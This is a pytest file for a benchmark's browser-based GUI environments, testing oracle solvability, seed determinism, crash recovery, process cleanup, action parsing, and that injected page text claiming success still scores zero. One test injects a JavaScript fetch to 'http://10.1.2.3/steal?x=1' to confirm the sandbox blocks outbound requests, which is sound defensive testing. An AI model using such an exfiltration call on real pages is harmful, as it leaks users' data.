"""GUI family (issue 7): solvability, a verifier that ignores page text, the offline browser, crash
recovery, no leftover processes, and the text view. The full ``verigym check`` of every id runs in
``tests/test_conformance.py``.
"""

from __future__ import annotations

import os
import signal
import time

import numpy as np
import pytest

from tests.envs.gui.support import require_chromium

pytestmark = pytest.mark.gui

require_chromium()

import gymnasium as gym  # noqa: E402

import verigym  # noqa: E402,F401
from tests.processes import descendants  # noqa: E402
from verigym.envs.gui.env import GuiEnv  # noqa: E402
from verigym.envs.gui.tasks import TASKS, make_action  # noqa: E402


@pytest.fixture(scope="module", autouse=True)
def _browser_held():
    """This module makes and closes many GUI envs in a row: their shared Chromium is held (launched
    once, stopped at the end of the module) instead of relaunched after each test."""
    from verigym.envs.gui.browser import held

    with held():
        yield


def _browser_processes() -> list[int]:
    return [
        pid
        for pid, command in descendants().items()
        if "chromium" in command or "playwright" in command or "node" in command.split(" ")[0]
    ]


def _play_oracle(env: gym.Env, seed: int) -> dict:
    env.reset(seed=seed)
    for _ in range(env.unwrapped.max_steps):
        _, _, terminated, truncated, info = env.step(env.unwrapped.oracle_action())
        if terminated or truncated:
            return info
    raise AssertionError("the episode did not end within max_steps")


@pytest.mark.parametrize("task", sorted(TASKS))
def test_oracle_solves_every_task_and_its_seed_gives_the_same_page(task):
    """Every page in the default run (``verigym check`` of most GUI ids is slow): the oracle
    solves it, and a reset with the same seed after play shows the same page, another seed another."""
    env = GuiEnv(task=task)
    try:
        first = env.reset(seed=11)[0]
        info = _play_oracle(env, 11)
        assert info["success"] is True and info["score"] == 1.0, (task, info)
        again = env.reset(seed=11)[0]
        assert np.array_equal(again["screenshot"], first["screenshot"]), task
        assert again["text"] == first["text"], task
        assert not np.array_equal(env.reset(seed=12)[0]["screenshot"], first["screenshot"]), task
    finally:
        env.close()


@pytest.mark.slow
@pytest.mark.parametrize(
    "env_id", [r.id for r in verigym.rows("gui") if ".miniwob." not in r.entry_point]
)  # the MiniWoB++ ids: tests/envs/gui/test_miniwob.py
def test_oracle_success_rate_200_seeds(env_id):
    env = gym.make(env_id)
    try:
        wins = sum(_play_oracle(env, seed)["success"] for seed in range(200))
    finally:
        env.close()
    assert wins >= 198, f"{env_id}: oracle solved {wins}/200"


def test_page_text_saying_success_scores_zero():
    env = GuiEnv(task="click-checkboxes")
    try:
        env.reset(seed=3)
        env.unwrapped._browser.evaluate(
            "() => { document.getElementById('query').textContent = 'Task complete! success'; "
            "document.body.append(Object.assign(document.createElement('div'), {textContent: 'SUCCESS: reward 1'})); }"
        )
        observation, reward, terminated, _, info = env.step(make_action("done"))
        assert "Task complete" in env.unwrapped._browser.evaluate("() => document.body.textContent")
        assert terminated and reward == 0.0 and info["success"] is False and info["score"] == 0.0
        # the submit button alone (nothing ticked as instructed) does not pass either
        env.reset(seed=3)
        submit = next(e["id"] for e in env.unwrapped._elements if e["name"] == "Submit")
        _, reward, terminated, _, info = env.step(make_action("click", element=submit))
        spec = env.unwrapped._spec
        expected = (
            sorted(i for i, on in zip(spec["items"], spec["initial"]) if on) == spec["targets"]
        )
        assert terminated and info["success"] is expected
    finally:
        env.close()


def test_external_requests_are_blocked():
    env = GuiEnv(task="click-button")
    try:
        env.reset(seed=0)
        browser = env.unwrapped._browser
        outcome = browser.evaluate(
            "async () => { const img = new Image(); img.src = 'https://example.com/pixel.png'; document.body.append(img);"
            " try { await fetch('http://10.1.2.3/steal?x=1'); return 'fetched'; } catch (e) { return 'failed'; } }"
        )
        deadline = time.monotonic() + 5
        while len(browser.blocked) < 2 and time.monotonic() < deadline:
            browser.evaluate("() => new Promise(r => setTimeout(r, 50))")
        assert outcome == "failed"
        assert any("10.1.2.3" in url for url in browser.blocked)
        assert any("example.com" in url for url in browser.blocked)
        _, _, _, _, info = env.step(make_action("press", key="Tab"))
        assert info["blocked_requests"] >= 2
    finally:
        env.close()


def test_killed_browser_ends_the_episode_and_reset_recovers():
    env = gym.make("verigym/ClickCheckboxes-v0")
    try:
        env.reset(seed=1)
        mains = _chromium_mains()
        assert mains, "no chromium process found"
        for pid in mains:
            os.kill(pid, signal.SIGKILL)
        time.sleep(0.5)
        observation, reward, terminated, truncated, info = env.step(make_action("press", key="Tab"))
        assert info.get("browser_crashed") is True and truncated and not terminated
        assert info["success"] is False and info["score"] == 0.0 and reward == 0.0
        assert env.observation_space.contains(observation)
        info = _play_oracle(env, 1)
        assert info["success"] is True
    finally:
        env.close()


def _chromium_mains() -> list[int]:
    return [
        pid
        for pid, command in descendants().items()
        if "chromium" in command and "--type=" not in command
    ]


def test_envs_and_their_copies_share_one_chromium():
    import copy
    import pickle

    from verigym.envs.gui.browser import shared_chromium

    envs = [GuiEnv(task="enter-text"), GuiEnv(task="login")]
    try:
        for env in envs:
            env.reset(seed=0)
        envs += [pickle.loads(pickle.dumps(envs[0])), copy.deepcopy(envs[1])]
        assert len(_chromium_mains()) == 1
        assert len(shared_chromium().contexts) == 4  # one context (own cookies, storage) per env
    finally:
        for env in envs:
            env.close()
    from verigym.envs.gui.browser import _SHARED

    spares = [page.context for entry in _SHARED.values() for page in entry.spares]
    # a closed env's context is closed, or kept as a wiped spare for the next env
    assert all(any(c is s for s in spares) for c in shared_chromium().contexts)


def test_close_is_idempotent_and_shutdown_leaves_no_process():
    from verigym.envs.gui.browser import close_shared_browser

    before = set(_browser_processes())
    envs = [GuiEnv(task="enter-text"), GuiEnv(task="login")]
    for env in envs:
        env.reset(seed=0)
    assert _chromium_mains(), "the envs started no browser"
    for env in envs:
        env.close()
        env.close()
    close_shared_browser()
    deadline = time.monotonic() + 10
    while _browser_processes() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not _browser_processes(), (before, _browser_processes())
    env = GuiEnv(task="login")  # a later env relaunches it
    try:
        env.reset(seed=0)
        assert len(_chromium_mains()) == 1
    finally:
        env.close()


def test_same_seed_same_screenshot_and_copy_continues():
    import copy
    import pickle

    env = GuiEnv(task="email-inbox")
    try:
        first, _ = env.reset(seed=5)
        again, _ = env.reset(seed=5)
        assert (
            np.array_equal(first["screenshot"], again["screenshot"])
            and first["text"] == again["text"]
        )
        env.step(env.oracle_action())
        clone = pickle.loads(pickle.dumps(env))
        twin = copy.deepcopy(env)
        try:
            action = env.oracle_action()
            results = [e.step(action) for e in (env, clone, twin)]
            assert all(
                np.array_equal(r[0]["screenshot"], results[0][0]["screenshot"]) for r in results
            )
            assert len({r[0]["text"] for r in results}) == 1
        finally:
            clone.close()
            twin.close()
    finally:
        env.close()


def test_change_tracking_sees_scroll_and_focus_before_their_events_fire():
    """The env reuses the last screenshot while the page's change counter stands still; "scroll"
    and "selectionchange" events fire a frame later, so a busy machine used to observe before them
    and return a stale screenshot (a reset_leak flake in CI on SearchList)."""
    env = GuiEnv(task="search-list")
    try:
        env.reset(seed=0)
        browser = env._browser
        before = browser.evaluate("n => window.vg.observe(n).version", 64)
        after = browser.evaluate(
            "n => { window.scrollBy(0, 40); return [window.scrollY, window.vg.observe(n).version]; }",
            64,
        )
        assert after[0] > 0, "the page must be scrollable for this test"
        assert after[1] != before
        focused = browser.evaluate(
            "n => { document.querySelector('#area input').focus({preventScroll: true}); document.querySelector('#area input').blur(); document.querySelector('#area input').focus(); return window.vg.observe(n).version; }",
            64,
        )
        assert focused != after[1]
    finally:
        env.close()


def test_text_view_parses_commands():
    env = GuiEnv(task="login", viewport_width=200, viewport_height=160)  # no browser until reset
    assert env.action_text(env.parse_action("I will click [3]")) == "click 3"
    parsed = env.parse_action('First look. Then: type 2 "bob \\"the\\" builder"')
    assert parsed["op"] == 2 and parsed["element"] == 2 and parsed["text"] == 'bob "the" builder'
    assert env.parse_action("press enter")["key"] == 0
    assert env.parse_action("click_xy 10 20")["xy"].tolist() == [10, 20]
    assert env.parse_action("scroll down. no wait: done")["op"] == 6
    for action in (
        make_action("click", element=7),
        make_action("type", element=1, text="a b"),
        make_action("click_xy", xy=(3, 4)),
    ):
        back = env.parse_action(env.action_text(action))
        assert env.action_text(back) == env.action_text(action)
    from verigym.core import ActionParseError

    for bad in ("", "jump", "click_xy 500 10", 'type 1 ""', "press F13", "click 999"):
        with pytest.raises(ActionParseError):
            env.parse_action(bad)
    env.close()


@pytest.mark.parametrize(
    "kwargs",
    [
        {"task": "nope"},
        {"task": "login", "num_items": 99},
        {"task": "login", "max_steps": 0},
        {"task": "login", "viewport_width": 50},
        {"task": "login", "max_elements": True},
    ],
)
def test_bad_arguments_raise(kwargs):
    with pytest.raises(ValueError):
        GuiEnv(**kwargs)


def test_malformed_actions_do_not_touch_the_page():
    env = GuiEnv(task="enter-text")
    try:
        env.reset(seed=2)
        button = next(e["id"] for e in env._elements if e["role"] == "button")
        for action in (
            make_action("type", element=button, text="x"),
            make_action("click", element=50),
            {"op": 9},
        ):
            observation, reward, terminated, truncated, info = env.step(action)
            assert info["action_error"] and reward == 0.0 and not terminated
            assert env.observation_space.contains(observation)
        assert env._state["value"] == ""
    finally:
        env.close()


def test_interpreter_exits_promptly_after_a_fork_with_the_shared_browser_open():
    """A fork-based worker started while the shared driver runs holds a copy of the driver's
    stdin: the exit-time shutdown must still end the driver instead of waiting for its EOF."""
    import subprocess
    import sys
    import textwrap

    code = textwrap.dedent(
        """
        import os
        import gymnasium as gym
        import verigym
        from verigym.workers import BoundedWorker
        env = gym.make("verigym/ClickButton-v0")
        env.reset(seed=0)
        print(BoundedWorker(start_method="fork").call(os.getpid, (), timeout=60))
        env.close()
        """
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout.strip().isdigit(), done.stderr


def test_a_screenshot_chromium_could_not_capture_yet_is_retried(monkeypatch):
    """Headless Chromium under load sometimes answers Page.captureScreenshot with "Unable to
    capture screenshot" (seen in CI); the capture is retried briefly, and other errors are not."""
    import base64
    import io

    from PIL import Image

    from verigym.envs.gui import browser as browser_module

    monkeypatch.setattr(browser_module, "SCREENSHOT_RETRY_WAITS", (0.0, 0.0, None))
    png = io.BytesIO()
    Image.new("RGB", (4, 3), (10, 20, 30)).save(png, format="PNG")
    replies = [
        RuntimeError("Protocol error (Page.captureScreenshot): Unable to capture screenshot"),
        {"data": base64.b64encode(png.getvalue()).decode()},
    ]

    class Page:
        def is_closed(self):
            return False

    class Session:
        def send(self, method, params):
            reply = replies.pop(0)
            if isinstance(reply, Exception):
                raise reply
            return reply

    browser = browser_module.Browser.__new__(browser_module.Browser)
    browser._page, browser._cdp, browser._browser, browser._context = Page(), Session(), None, None
    browser.width, browser.height = 4, 3
    monkeypatch.setattr(browser_module.Browser, "alive", property(lambda self: True))
    frame = browser.screenshot()
    assert frame.shape == (3, 4, 3) and tuple(frame[0, 0]) == (10, 20, 30) and not replies

    replies[:] = [RuntimeError("Protocol error: something else")]
    with pytest.raises(RuntimeError, match="something else"):
        browser.screenshot()
    replies[:] = [RuntimeError("Unable to capture screenshot")] * 3
    with pytest.raises(RuntimeError, match="Unable to capture"):
        browser.screenshot()
